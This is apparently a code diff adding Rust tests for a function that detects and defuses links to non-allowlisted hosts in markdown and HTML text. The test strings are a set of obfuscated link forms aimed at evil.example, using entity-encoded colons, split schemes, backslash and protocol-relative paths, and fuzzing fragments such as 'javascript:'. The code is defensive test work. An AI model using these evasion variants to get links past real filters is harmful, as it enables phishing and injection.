+        let hosts = [Pattern::new("ok.example"), Pattern::new("*.ok.example")];
+        for text in [
+            "[x](https&#58;//evil.example)",
+            "<a href=\"ht\ntps://evil.example/\">",
+            "[x]( //evil.example )",
+            "[x](                                  //evil.example )",
+            "[x](\\\\\\\\evil.example)",
+            "<a href=\"\\\\evil.example\">",
+            "[x](https:evil.example)",
+            "<a href=\"&#47;&#47;evil.example\">",
+            "[x](///evil.example)",
+            "see www.evil.example",
+            "ssh://evil.example",
+            "file://evil.example/x",
+            "<a href= //evil.example>",
+        ] {
+            assert_eq!(find(text, &hosts).matches.len(), 1, "{text}");
+            let idle = defused(text, &hosts).unwrap();
+            assert_eq!(find(&idle, &hosts).matches.len(), 0, "{text}: {idle}");
+            assert_eq!(find(&text.replace("evil", "ok"), &hosts).matches.len(), 0, "{text}");
+        }
+        for text in [
+            "file:///srv/a and file://C:/a and file:a",
+            "a https: b, http:\n//comment",
+            "f(http::Request::new(), Vec<http::Header>, url=http:x) (https:)",
+            "(http: the protocol), scheme=\"https:\", (see https:) and if (x)\\\\server",
+            "x = //comment\nfoo( //comment\n)",
+            "s.replace(/\\\\/g, '').match(/\\\\/x\\\\/$/)",
+            "/// [a]:\n/// https://ok.example and //! [b]:\n//! <https://ok.example>",
+            "x =\"\n//comment",
+            "awww.that is nice",
+        ] {
+            assert_eq!(find(text, &hosts).matches.len(), 0, "{text}");
+        }
     }
 
     proptest! {
@@ -443,14 +793,13 @@ mod tests {
             Just("<script>"), Just("</script>"), Just("<!--"), Just("-->"), Just("![a]("), Just("https://a.b@c.d/"),
             Just(")"), Just("<img src=\"//x.y\">"), Just("javascript:"), Just("[//]: "), Just("\n"), Just("word "),
             Just("<a href='"), Just("'>"), Just("[https://a.example]("), Just("](command:"), Just("<"), Just(">"), Just("@import //a"),
+            Just("&#58;"), Just("&Tab;"), Just("\\:"), Just("<a href=\"java\nscript:\">"), Just("https&colon;//a@b.c"), Just("hidden"),
+            Just("www.a.b"), Just("<?"), Just("<p style=\"u\\72l(\""),
         ], 0..12)) {
             let mut text = parts.concat();
             for _ in 0..6 {
-                let found = find(&text, &[], &WorkBudget::unlimited());
-                let Some(one) = found.first() else { break };
-                let part = |range: std::ops::Range<usize>| text.get(range).unwrap();
-                let idle = defanged(one, part(one.from..one.end));
-                text = [part(0..one.from), &idle, part(one.end..text.len())].concat();
+                let Some(idle) = defused(&text, &[]) else { break };
+                text = idle;
             }
             prop_assert!(text.len() < 4096);
         }
